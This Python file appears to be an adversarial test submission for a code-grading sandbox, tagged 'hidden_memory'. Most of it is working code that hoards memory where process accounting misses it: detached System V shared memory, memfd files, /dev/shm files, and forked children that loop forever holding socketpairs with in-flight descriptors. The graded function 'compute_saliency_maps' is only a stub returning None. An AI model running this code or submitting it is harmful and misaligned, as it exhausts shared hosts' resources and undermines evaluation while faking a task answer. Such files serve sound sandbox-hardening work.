# Keeps memory where no process maps it: shared segments, messages, files of memory, pipes, sockets.
# attacks: hidden_memory
# %%
import contextlib
import ctypes
import mmap
import os
import socket
import time

libc = ctypes.CDLL(None)
kept = []
for n in range(64):
    with contextlib.suppress(OSError, ValueError):
        number = libc.shmget(0, 100 << 20, 0o1600)
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(number, None, 0)
        if number >= 0:
            ctypes.memset(place, 1, 100 << 20)
            libc.shmdt(ctypes.c_void_p(place))
    with contextlib.suppress(OSError):
        descriptor = os.memfd_create(f"m{n}")
        os.write(descriptor, bytes(100 << 20))
        kept.append(descriptor)
    with contextlib.suppress(OSError):
        shared = mmap.mmap(-1, 100 << 20)
        shared[:] = b"x" * len(shared)
        shared.madvise(mmap.MADV_DONTNEED)
        kept.append(shared)
    with contextlib.suppress(OSError):
        with open(f"/dev/shm/{n}", "wb") as stream:
            stream.write(bytes(20 << 20))
for _ in range(10):
    if not os.fork():
        while True:
            try:
                one, other = socket.socketpair()
                kept += one, other
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                one.send(bytes(100_000))
                socket.send_fds(one, [b"x"], [other.fileno()])
            except OSError:
                time.sleep(30)
time.sleep(20)


# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    return None
